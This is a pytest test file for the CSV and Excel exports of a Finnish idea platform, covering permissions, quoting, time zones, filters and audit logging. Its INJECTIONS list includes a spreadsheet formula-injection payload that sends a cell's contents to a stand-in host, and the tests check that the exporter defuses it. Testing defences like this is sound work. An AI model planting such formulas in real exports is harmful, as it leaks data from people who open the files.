"""The coordination team's exports: who may download them, the CSV and Excel files (quoting,
byte order mark, formula injection), the filters, and the audit row of every download.

Downloads are read with `buffered=True`: the test client runs each request in a context of
its own, and a streamed body must be read inside it, as a WSGI server does.
"""

from __future__ import annotations

import codecs
import csv
import io
import re
from datetime import UTC, date, datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from idealaari.accounts.models import Role
from idealaari.admin import exports
from idealaari.audit.models import AuditEntry
from idealaari.challenges import services as challenge_services
from idealaari.challenges.models import Award, AwardKind, Entry, Score, Scorecard
from idealaari.comments.models import Comment
from idealaari.dbtypes import utcnow
from idealaari.extensions import db
from idealaari.i18n import LANGUAGE_COOKIE
from idealaari.ideas.models import IdeaStatus, PartnerRole, idea_co_editors
from idealaari.partners.models import OfferStatus, PartnerOffer
from idealaari.votes.models import Vote
from tests.challenges.conftest import fields, jury_criteria, timeline

PAGE = "/admin/exports"
DOWNLOAD = "/admin/exports/download"
HTMX = {"HX-Request": "true"}
# Published at 22:30 UTC on 1 March 2026: already 2 March in Finland (UTC+2).
LATE_EVENING = datetime(2026, 3, 1, 22, 30, tzinfo=UTC)
INJECTIONS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Avaa")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
]


@pytest.fixture
def moderator(make_user):
    return make_user(role=Role.MODERATOR)


def download(client, export="ideas", fmt="csv", **params):
    query = {"export": export, "format": fmt, **params}
    return client.get(DOWNLOAD, query_string=query, buffered=True)


def csv_rows(resp, delimiter=",") -> list[list[str]]:
    assert resp.status_code == 200, resp.text[:500]
    assert resp.data.startswith(codecs.BOM_UTF8)
    text = resp.data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def csv_table(resp) -> list[dict[str, str]]:
    header, *rows = csv_rows(resp)
    return [dict(zip(header, row, strict=True)) for row in rows]


def workbook_sheet(resp):
    assert resp.status_code == 200, resp.text[:500]
    return load_workbook(io.BytesIO(resp.data)).active


def sheet_table(resp) -> list[dict]:
    header, *rows = ([c.value for c in row] for row in workbook_sheet(resp).iter_rows())
    return [dict(zip(header, row, strict=True)) for row in rows]


def audit_rows() -> list[AuditEntry]:
    db.session.commit()
    return list(db.session.scalars(select(AuditEntry).order_by(AuditEntry.id)))


# --- Who may export ------------------------------------------------------------------------

REFUSED_URLS = [
    PAGE,
    f"{DOWNLOAD}?export=ideas&format=csv",
    f"{DOWNLOAD}?export=entries&format=xlsx",
]


@pytest.mark.parametrize("url", REFUSED_URLS)
def test_anonymous_visitors_are_sent_to_log_in(client, make_idea, url):
    make_idea()
    resp = client.get(url)
    assert resp.status_code == 302 and "/login" in resp.headers["Location"]
    resp = client.get(url, headers=HTMX)
    assert resp.status_code == 401 and "/login" in resp.headers["HX-Redirect"]
    assert audit_rows() == []


@pytest.mark.parametrize("role", [Role.MEMBER, Role.AREA_CONTACT])
@pytest.mark.parametrize("url", REFUSED_URLS)
def test_members_and_area_contacts_are_refused(client, login, make_user, make_idea, role, url):
    make_idea(title="Salainen raportti")
    login(make_user(role=role))
    resp = client.get(url)
    assert resp.status_code == 403
    assert "Only moderators and admins download exports." in resp.text
    assert "Salainen raportti" not in resp.text
    resp = client.get(url, headers=HTMX)
    assert resp.status_code == 403 and "<html" not in resp.text
    assert resp.headers["HX-Reswap"] == "none"
    assert audit_rows() == []


@pytest.mark.parametrize("role", [Role.MEMBER, Role.AREA_CONTACT, Role.MODERATOR])
def test_no_form_post_or_htmx_post_downloads_anything(client, login, make_user, role):
    login(make_user(role=role))
    for headers in ({}, HTMX):
        resp = client.post(DOWNLOAD, data={"export": "ideas", "format": "csv"}, headers=headers)
        assert resp.status_code == 405
        assert not resp.data.startswith(codecs.BOM_UTF8)
    assert audit_rows() == []


@pytest.mark.parametrize("role", [Role.MODERATOR, Role.ADMIN])
def test_moderators_and_admins_get_the_page(client, login, make_user, make_org, role):
    make_org(name="Pirkanmaan hyvinvointialue")
    login(make_user(role=role))
    resp = client.get(PAGE)
    assert resp.status_code == 200
    assert "<h1>Exports</h1>" in resp.text
    assert f'action="{DOWNLOAD}"' in resp.text and 'method="get"' in resp.text
    for label in ("Ideas", "Comments", "Partnerships", "Votes per idea"):
        assert label in resp.text
    assert "Challenge entries and scores" in resp.text
    assert resp.text.count("<h1") == 1
    # Every control of the form has a label; the period is two date inputs.
    form = resp.text[resp.text.index('class="stacked-form exports-form"') :]
    form = form[: form.index("</form>")]
    controls = re.findall(r'<(?:input|select)[^>]* id="([^"]+)"', form)
    assert len(controls) == 5 + 2 + 2 + 2  # exports, filters, formats
    for control in controls:
        assert f'<label for="{control}"' in form, control
    assert 'type="date"' in resp.text
    assert "Test county" in resp.text  # organisations named in the reader's language
    assert 'checked id="export-0" name="export" required type="radio" value="ideas"' in resp.text


def test_the_page_keeps_the_choices_it_was_given(client, login, moderator, make_theme):
    theme = make_theme(name="Mielenterveys")
    login(moderator)
    resp = client.get(PAGE, query_string={"export": "votes", "theme": theme.slug})
    assert resp.status_code == 200
    assert f'<option selected value="{theme.slug}">' in resp.text


# --- CSV -----------------------------------------------------------------------------------


def test_csv_starts_with_a_bom_and_quotes_commas_quotes_and_line_breaks(
    client, login, moderator, make_idea
):
    tricky = 'Kotihoito, "etänä"\nja lähellä'
    idea = make_idea(title=tricky, summary="Ääkköset: åäö; puolipiste")
    login(moderator)
    resp = download(client)
    assert resp.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert resp.headers["Content-Disposition"].startswith('attachment; filename="idealaari-ideas-')
    assert '"Kotihoito, ""etänä""\nja lähellä"' in resp.data.decode("utf-8-sig")
    (row,) = csv_table(resp)
    assert row["Idea ID"] == str(idea.id)
    assert row["Title"] == tricky
    assert row["Summary"] == "Ääkköset: åäö; puolipiste"
    assert row["Status"] == "Published"
    assert row["Seeks partners"] == "No"
    assert row["Address"].endswith(f"/ideas/{idea.id}-{idea.slug}")


def test_csv_times_are_finnish_time(client, login, moderator, make_idea):
    idea = make_idea()
    idea.published_at = LATE_EVENING
    db.session.commit()
    login(moderator)
    (row,) = csv_table(download(client))
    assert row["Published"] == "2026-03-02 00:30"


def test_finnish_csv_uses_semicolons_and_decimal_commas(client, login, moderator, jury_scene):
    client.set_cookie(LANGUAGE_COOKIE, "fi", domain="idealaari.test")
    moderator.locale = "fi"
    login(moderator)
    resp = download(client, "entries")
    header, first, *_rest = csv_rows(resp, delimiter=";")
    assert resp.data.decode("utf-8-sig").splitlines()[0].count(";") == len(header) - 1 == 16
    assert header[10] == "Raakapisteet"  # the header is in Finnish
    assert first[10] == "4,50" and first[12] == "0,688"


def test_english_csv_uses_commas_and_decimal_points(client, login, moderator, jury_scene):
    login(moderator)
    rows = csv_table(download(client, "entries"))
    assert rows[0]["Raw score"] == "4.50"


@pytest.mark.parametrize("text", INJECTIONS)
def test_formula_injection_is_defused_in_csv(client, login, moderator, make_idea, make_user, text):
    idea = make_idea()
    idea.title = text  # set directly: the form would strip the tab and the carriage return
    db.session.add(Comment(discussion_id=idea.discussion_id, author_id=make_user().id, body=text))
    db.session.commit()
    login(moderator)
    (idea_row,) = csv_table(download(client, "ideas"))
    assert idea_row["Title"] == "'" + text
    (comment_row,) = csv_table(download(client, "comments"))
    assert comment_row["Comment"] == "'" + text
    assert comment_row["Idea"] == "'" + text


def test_numbers_and_harmless_text_are_left_as_they_are():
    dialect = exports.CsvDialect.for_language("en")
    decimal = exports.Column("x", exports.ColumnKind.DECIMAL, decimals=2)
    text = exports.Column("x")
    assert exports.csv_cell(-0.5, decimal, dialect) == "-0.50"
    assert exports.csv_cell("Etähoito = arki", text, dialect) == "Etähoito = arki"
    assert exports.csv_cell("", text, dialect) == ""
    assert exports.csv_cell(None, text, dialect) == ""


def test_csv_streams_in_chunks_with_one_bom():
    columns = [exports.Column("n", exports.ColumnKind.INTEGER)]
    chunks = list(exports.csv_chunks(columns, ([n] for n in range(450)), language="en"))
    assert len(chunks) == 3  # 200 + 200 + 50 rows
    assert chunks[0].startswith(codecs.BOM_UTF8)
    assert not any(c.startswith(codecs.BOM_UTF8) for c in chunks[1:])
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"), newline="")))
    assert rows[0] == ["n"] and rows[-1] == ["449"] and len(rows) == 451


def test_an_empty_export_still_has_its_header(client, login, moderator):
    login(moderator)
    assert csv_rows(download(client, "partnerships"))[0][:3] == ["Offer ID", "Offered", "Idea ID"]


def test_the_download_streams(client, login, moderator, make_idea):
    make_idea()
    login(moderator)
    resp = client.get(DOWNLOAD, query_string={"export": "ideas", "format": "csv"}, buffered=True)
    assert resp.status_code == 200 and "Content-Length" not in resp.headers
    assert resp.headers["Cache-Control"] == "private, no-store"


def test_rows_are_read_in_batches(client, login, moderator, make_idea, monkeypatch):
    monkeypatch.setattr(exports, "BATCH", 2)
    ids = [make_idea().id for _ in range(5)]
    login(moderator)
    assert [int(r["Idea ID"]) for r in csv_table(download(client))] == ids


def test_the_number_of_queries_does_not_grow_with_the_rows(
    client, login, moderator, make_idea, make_theme, make_user, count_queries
):
    theme = make_theme()
    login(moderator)

    def queries_for_ideas(how_many: int) -> int:
        for _ in range(how_many):
            idea = make_idea(themes=[theme])
            db.session.add(Comment(discussion_id=idea.discussion_id, body="Hyvä!"))
        db.session.commit()
        with count_queries() as statements:
            assert len(csv_table(download(client))) > 0
        return len(statements)

    assert queries_for_ideas(2) == queries_for_ideas(6)


# --- Excel ---------------------------------------------------------------------------------


def test_the_workbook_opens_with_the_right_rows(client, login, moderator, make_idea, make_theme):
    theme = make_theme(name="Ikääntyneet")
    first = make_idea(title="Etäkäynnit, illalla", themes=[theme], seeks_partners=True)
    first.published_at = LATE_EVENING
    first.vote_count = 3
    second = make_idea(title="Liikkuva neuvola")
    db.session.commit()
    login(moderator)
    resp = download(client, fmt="xlsx")
    assert resp.headers["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert "idealaari-ideas-" in resp.headers["Content-Disposition"]
    sheet = workbook_sheet(resp)
    assert sheet.title == "Ideas"
    assert sheet.freeze_panes == "A2"
    rows = sheet_table(resp)
    assert [r["Idea ID"] for r in rows] == [first.id, second.id]
    assert rows[0]["Title"] == "Etäkäynnit, illalla"
    assert rows[0]["Themes"] == theme.name_en  # in the reader's language
    assert rows[0]["Seeks partners"] == "Yes"
    assert rows[0]["Votes"] == 3
    assert rows[0]["Published"] == datetime(2026, 3, 2, 0, 30)  # Finnish time
    assert rows[0]["Development phase"] == "1. Ideation"


def test_formula_injection_is_defused_in_the_workbook(client, login, moderator, make_idea):
    for text in INJECTIONS:
        make_idea(summary="#N/A").title = text
    db.session.commit()
    login(moderator)
    resp = download(client, fmt="xlsx")
    sheet = workbook_sheet(resp)
    titles = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in titles] == INJECTIONS  # shown exactly as written
    assert all(c.data_type == "s" and c.quotePrefix for c in titles)
    summaries = [row[2] for row in sheet.iter_rows(min_row=2)]
    assert all(c.value == "#N/A" and c.data_type == "s" for c in summaries)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    assert b"<f>" not in _sheet_xml(resp.data)


def _sheet_xml(data: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


def test_text_excel_cannot_hold_is_cleaned():
    columns = [exports.Column("Otsikko")]
    rows = [["a\x00b\x07c"], ["x" * 40_000]]
    out, count = exports.xlsx_file(columns, rows, title="Ideat: [kaikki]")
    with out:
        sheet = load_workbook(out).active
    assert count == 2
    assert sheet.title == "Ideat   kaikki"
    assert sheet["A2"].value == "abc"
    assert len(sheet["A3"].value) == exports.XLSX_TEXT_MAX


# --- What each export holds -----------------------------------------------------------------


def test_exports_hold_public_content_and_no_names_of_people(
    client, login, moderator, make_idea, make_user
):
    author = make_user(name="Tiina Tekijä", email="tiina@example.fi")
    public = make_idea(author=author, title="Julkinen idea")
    make_idea(title="Arkistoitu idea", status=IdeaStatus.ARCHIVED)
    make_idea(title="Luonnos", status=IdeaStatus.DRAFT)
    hidden = make_idea(title="Piilotettu", status=IdeaStatus.HIDDEN)
    commenter = make_user(name="Kalle Kommentoija")
    now = utcnow()
    _vote(hidden, commenter)
    db.session.add_all(
        [
            Comment(discussion_id=hidden.discussion_id, body="Kommentti piilotetussa"),
            PartnerOffer(
                idea_id=hidden.id, organisation_id=commenter.organisation_id, role="funder"
            ),
            Comment(discussion_id=public.discussion_id, author_id=commenter.id, body="Näkyy"),
            Comment(discussion_id=public.discussion_id, body="Poistettu", deleted_at=now),
            Comment(
                discussion_id=public.discussion_id,
                author_id=commenter.id,
                body="Piilotettu kommentti",
                hidden_at=now,
                hidden_reason="Asiaton",
            ),
        ]
    )
    db.session.commit()
    login(moderator)
    ideas = csv_table(download(client, "ideas"))
    assert [(r["Title"], r["Status"]) for r in ideas] == [
        ("Julkinen idea", "Published"),
        ("Arkistoitu idea", "Archived"),
    ]
    assert ideas[0]["Comments"] == "1"
    (comment,) = csv_table(download(client, "comments"))
    assert comment["Comment"] == "Näkyy"
    assert comment["Commenter's organisation"] == commenter.organisation.name_en
    assert comment["Idea ID"] == str(public.id)
    for export in exports.EXPORTS:
        body = download(client, export).data.decode("utf-8-sig")
        for secret in ("Tiina", "tiina@example.fi", "Kalle", "Luonnos", "Piilotettu", "piilo"):
            assert secret not in body, (export, secret)


def test_the_partnerships_export_has_every_offer_with_its_status(
    client, login, moderator, make_idea, make_org, make_user
):
    idea = make_idea(title="Yhteinen pilotti")
    partner = make_org(name="Tampereen yliopisto")
    other = make_org(name="Pelastusopisto")
    db.session.add_all(
        [
            PartnerOffer(
                idea_id=idea.id,
                user_id=make_user(organisation=partner).id,
                organisation_id=partner.id,
                role=PartnerRole.RESEARCHER,
                status=OfferStatus.ACCEPTED,
                message="Yksityinen viesti",
                decided_at=LATE_EVENING,
            ),
            PartnerOffer(
                idea_id=idea.id,
                organisation_id=other.id,
                role=PartnerRole.PILOT_SITE,
                status=OfferStatus.WITHDRAWN,
            ),
        ]
    )
    db.session.commit()
    login(moderator)
    resp = download(client, "partnerships")
    rows = csv_table(resp)
    assert [(r["Partner organisation"], r["Role"], r["Status"]) for r in rows] == [
        (partner.name_en, "Researcher or research group", "Accepted"),
        (other.name_en, "Pilot or test site", "Withdrawn"),
    ]
    assert rows[0]["Decided"] == "2026-03-02 00:30" and rows[1]["Decided"] == ""
    assert rows[0]["Organisation of the idea"] == idea.organisation.name_en
    assert "Yksityinen viesti" not in resp.data.decode("utf-8-sig")
    ideas = csv_table(download(client, "ideas"))
    assert ideas[0]["Accepted partners"] == "1"


def _vote(idea, voter, when=None):
    db.session.add(Vote(idea_id=idea.id, user_id=voter.id, created_at=when or utcnow()))
    idea.vote_count += 1


def test_the_votes_export_counts_votes_and_the_voters_organisations(
    client, login, moderator, make_idea, make_user, make_org
):
    popular = make_idea(title="Suosittu")
    quiet = make_idea(title="Hiljainen")
    make_idea(title="Ei ääniä")
    org = make_org()
    for voter in (make_user(organisation=org), make_user(organisation=org), make_user()):
        _vote(popular, voter)
    _vote(quiet, make_user())
    db.session.commit()
    login(moderator)
    rows = sheet_table(download(client, "votes", "xlsx"))
    assert [
        (r["Idea"], r["Votes in the period"], r["Organisations of the voters"], r["All votes"])
        for r in rows
    ] == [("Suosittu", 3, 2, 3), ("Hiljainen", 1, 1, 1)]


def test_the_votes_export_counts_the_votes_of_the_period(
    client, login, moderator, make_idea, make_user
):
    idea = make_idea(title="Suosittu")
    _vote(idea, make_user(), datetime(2026, 1, 10, 12, tzinfo=UTC))
    _vote(idea, make_user(), datetime(2026, 2, 10, 12, tzinfo=UTC))
    _vote(make_idea(title="Vanha"), make_user(), datetime(2025, 6, 1, tzinfo=UTC))
    db.session.commit()
    login(moderator)
    rows = csv_table(download(client, "votes", date_from="2026-02-01", date_to="2026-02-28"))
    assert [(r["Idea"], r["Votes in the period"], r["All votes"]) for r in rows] == [
        ("Suosittu", "1", "2")
    ]


# --- Challenge entries ---------------------------------------------------------------------


@pytest.fixture
def jury_scene(app, make_user, make_idea, make_org, make_theme):
    """A challenge in its results phase: entry A (score 4.5, 1 vote, winner in a draft), entry
    B (score 2, 4 votes, an accepted partner), entry C (no scorecards)."""
    manager = make_user(role=Role.MODERATOR)
    theme = make_theme(name="Digitaaliset palvelut")
    challenge = challenge_services.propose_challenge(
        actor=manager,
        values=fields(
            make_org(name="Haasteen omistaja"),
            criteria=jury_criteria(),
            jury_weight=70,
            jury_quorum=1,
            themes=[theme],
        ),
    )
    for name, value in timeline("results").items():
        setattr(challenge, name, value)
    juror = make_user()
    challenge.jurors.append(juror)
    partner = make_org(name="Kumppaniyhdistys")
    ideas = [make_idea(title=title) for title in ("Idea A", "Idea B", "Idea C")]
    entries = [
        Entry(challenge_id=challenge.id, idea_id=idea.id, vote_count=votes)
        for idea, votes in zip(ideas, (1, 4, 0), strict=True)
    ]
    db.session.add_all(entries)
    db.session.flush()
    heavy, light = (c.id for c in challenge.criteria)
    for entry, points in ((entries[0], (5, 3)), (entries[1], (2, 2))):
        db.session.add(
            Scorecard(
                entry_id=entry.id,
                juror_id=juror.id,
                scores=[
                    Score(criterion_id=heavy, value=points[0]),
                    Score(criterion_id=light, value=points[1]),
                ],
            )
        )
    db.session.add(
        PartnerOffer(
            idea_id=ideas[1].id,
            organisation_id=partner.id,
            role=PartnerRole.CO_DEVELOPER,
            status=OfferStatus.ACCEPTED,
        )
    )
    db.session.add(Award(challenge_id=challenge.id, entry_id=entries[0].id, kind=AwardKind.WINNER))
    db.session.commit()
    return challenge, entries, partner, theme


def test_the_entries_export_has_the_jury_ranking(client, login, moderator, jury_scene):
    challenge, entries, partner, _theme = jury_scene
    login(moderator)
    rows = sheet_table(download(client, "entries", "xlsx"))
    assert [r["Entry ID"] for r in rows] == [e.id for e in entries]
    a, b, c = rows
    assert a["Challenge"] == challenge.title
    assert a["Problem owner"] == challenge.problem_owner.name_en
    assert (a["Rank"], a["Raw score"], a["Public votes"], a["Scorecards"]) == (1, 4.5, 1, 1)
    # 70 % the jury (4.5 on 1..5 is 0.875) and 30 % the vote share (1 of 4).
    assert a["Combined"] == pytest.approx(0.7 * 0.875 + 0.3 * 0.25)
    assert a["Award"] == "Winner (not yet published)"
    assert (b["Rank"], b["Raw score"], b["Public votes"]) == (2, 2.0, 4)
    assert b["Organisations"] == f"{entries[1].idea.organisation.name_en}; {partner.name_en}"
    assert b["Shares the rank"] == "No" and b["Award"] is None
    assert (c["Rank"], c["Raw score"], c["Scorecards"]) == (None, None, 0)


def test_an_entry_keeps_its_rank_when_the_filters_leave_others_out(
    client, login, moderator, jury_scene
):
    _challenge, entries, partner, _theme = jury_scene
    login(moderator)
    rows = csv_table(download(client, "entries", organisation=partner.code))
    assert [(r["Entry ID"], r["Rank"]) for r in rows] == [(str(entries[1].id), "2")]


def test_the_entries_export_filters_by_the_challenge_theme_and_entry_date(
    client, login, moderator, jury_scene, make_theme
):
    _challenge, entries, _partner, theme = jury_scene
    entries[2].entered_at = datetime(2024, 5, 5, tzinfo=UTC)
    db.session.commit()
    login(moderator)
    assert len(csv_table(download(client, "entries", theme=theme.slug))) == 3
    assert csv_table(download(client, "entries", theme=make_theme().slug)) == []
    rows = csv_table(download(client, "entries", date_to="2024-12-31"))
    assert [r["Entry ID"] for r in rows] == [str(entries[2].id)]


# --- Filters -------------------------------------------------------------------------------


def test_the_organisation_filter_narrows_the_rows(
    client, login, moderator, make_idea, make_org, make_user
):
    area = make_org(name="Keski-Suomen hyvinvointialue")
    ours = make_idea(title="Meidän idea", organisation=area, author=make_user(organisation=area))
    theirs = make_idea(title="Muiden idea")
    for idea in (ours, theirs):
        db.session.add(Comment(discussion_id=idea.discussion_id, body=f"Kommentti: {idea.title}"))
    db.session.add_all(
        [
            PartnerOffer(idea_id=theirs.id, organisation_id=area.id, role=PartnerRole.FUNDER),
            PartnerOffer(idea_id=ours.id, organisation_id=make_org().id, role=PartnerRole.OTHER),
            PartnerOffer(idea_id=theirs.id, organisation_id=make_org().id, role=PartnerRole.OTHER),
        ]
    )
    db.session.commit()
    login(moderator)
    assert [r["Title"] for r in csv_table(download(client, organisation=area.code))] == [
        "Meidän idea"
    ]
    comments = csv_table(download(client, "comments", organisation=area.code))
    assert [r["Comment"] for r in comments] == ["Kommentti: Meidän idea"]
    # Partnerships: the offers on its ideas and the offers it made.
    offers = csv_table(download(client, "partnerships", organisation=area.code))
    assert [r["Idea"] for r in offers] == ["Muiden idea", "Meidän idea"]


def test_the_theme_filter_narrows_the_rows(client, login, moderator, make_idea, make_theme):
    theme = make_theme(name="Päihdetyö")
    make_idea(title="Teeman idea", themes=[theme])
    make_idea(title="Muu idea")
    login(moderator)
    assert [r["Title"] for r in csv_table(download(client, theme=theme.slug))] == ["Teeman idea"]


def test_the_period_is_read_in_finnish_days(client, login, moderator, make_idea):
    late = make_idea(title="Myöhään illalla")
    late.published_at = LATE_EVENING  # 2 March in Finland
    early = make_idea(title="Helmikuussa")
    early.published_at = datetime(2026, 2, 15, 10, tzinfo=UTC)
    db.session.commit()
    login(moderator)

    def titles(**period):
        return [r["Title"] for r in csv_table(download(client, **period))]

    assert titles(date_from="2026-03-02") == ["Myöhään illalla"]
    assert titles(date_to="2026-03-01") == ["Helmikuussa"]
    assert titles(date_from="1.3.2026", date_to="2.3.2026") == ["Myöhään illalla"]
    assert titles(date_from="2026-02-15", date_to="2026-02-15") == ["Helmikuussa"]


def test_the_comments_period_looks_at_when_they_were_written(client, login, moderator, make_idea):
    idea = make_idea()
    db.session.add_all(
        [
            Comment(discussion_id=idea.discussion_id, body="Vanha", created_at=LATE_EVENING),
            Comment(
                discussion_id=idea.discussion_id,
                body="Uusi",
                created_at=LATE_EVENING + timedelta(days=30),
            ),
        ]
    )
    db.session.commit()
    login(moderator)
    rows = csv_table(download(client, "comments", date_from="2026-03-15"))
    assert [r["Comment"] for r in rows] == ["Uusi"]


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"date_from": "32.13.2025"}, "Give a date, for example 3.11.2025."),
        ({"date_to": "huomenna"}, "Give a date, for example 3.11.2025."),
        ({"date_from": "1899-12-31"}, "Give a date between 1.1.2000 and 31.12.2100."),
        ({"date_to": "9999-12-31"}, "Give a date between 1.1.2000 and 31.12.2100."),
        (
            {"date_from": "2026-03-02", "date_to": "2026-03-01"},
            "The end of the period is before its start.",
        ),
        ({"organisation": "no-such-org"}, "Choose one of the options given."),
        ({"theme": "no-such-theme"}, "Choose one of the options given."),
        ({"export": "users"}, "Choose one of the options given."),
        ({"export": ""}, "Choose what to export."),
        ({"format": "pdf"}, "Choose one of the options given."),
    ],
)
def test_invalid_filters_are_answered_with_422_and_a_message(
    client, login, moderator, make_idea, params, message
):
    make_idea()
    login(moderator)
    resp = download(client, **params)
    assert resp.status_code == 422
    assert message in resp.text
    assert "<h1>Exports</h1>" in resp.text and 'id="form-errors"' in resp.text
    assert audit_rows() == []


def test_a_download_without_a_choice_is_refused(client, login, moderator):
    login(moderator)
    resp = client.get(DOWNLOAD)
    assert resp.status_code == 422 and "Choose what to export." in resp.text


def test_the_period_check_itself():
    assert exports.period_problem(None, None) is None
    assert exports.period_problem(date(2026, 1, 1), date(2026, 1, 1)) is None
    assert exports.period_problem(date(2026, 1, 2), date(2026, 1, 1))


# --- The audit log -------------------------------------------------------------------------


def test_every_download_is_recorded_in_the_audit_log(
    client, login, moderator, make_idea, make_org, make_theme
):
    org = make_org()
    theme = make_theme()
    make_idea(organisation=org, themes=[theme])
    make_idea()
    login(moderator)
    download(
        client, "ideas", "csv", organisation=org.code, theme=theme.slug, date_from="2020-01-01"
    )
    download(client, "ideas", "xlsx")
    first, second = audit_rows()
    assert (first.action, first.actor_id) == ("export_downloaded", moderator.id)
    assert first.target_label == "Ideas (CSV)"
    assert first.data == {
        "export": "ideas",
        "format": "csv",
        "filters": {
            "organisation": {"id": org.id, "code": org.code},
            "theme": {"id": theme.id, "slug": theme.slug},
            "from": "2020-01-01",
        },
        "rows": 1,
    }
    assert second.target_label == "Ideas (XLSX)"
    assert second.data == {"export": "ideas", "format": "xlsx", "filters": {}, "rows": 2}


def test_the_audit_row_counts_the_rows_of_each_export(
    client, login, moderator, jury_scene, make_idea
):
    _challenge, _entries, partner, _theme = jury_scene
    login(moderator)
    download(client, "entries", "csv", organisation=partner.code)
    download(client, "comments", "xlsx")
    entries_row, comments_row = audit_rows()
    assert entries_row.data["rows"] == 1
    assert entries_row.target_label == "Challenge entries and scores (CSV)"
    assert comments_row.data["rows"] == 0


def test_co_editors_organisations_count_as_behind_an_entry(
    client, login, moderator, jury_scene, make_user, make_org
):
    _challenge, entries, _partner, _theme = jury_scene
    co_org = make_org(name="Kuntayhtymä")
    co_editor = make_user(organisation=co_org)
    db.session.execute(
        idea_co_editors.insert().values(idea_id=entries[2].idea_id, user_id=co_editor.id)
    )
    db.session.commit()
    login(moderator)
    rows = csv_table(download(client, "entries", organisation=co_org.code))
    assert [r["Entry ID"] for r in rows] == [str(entries[2].id)]
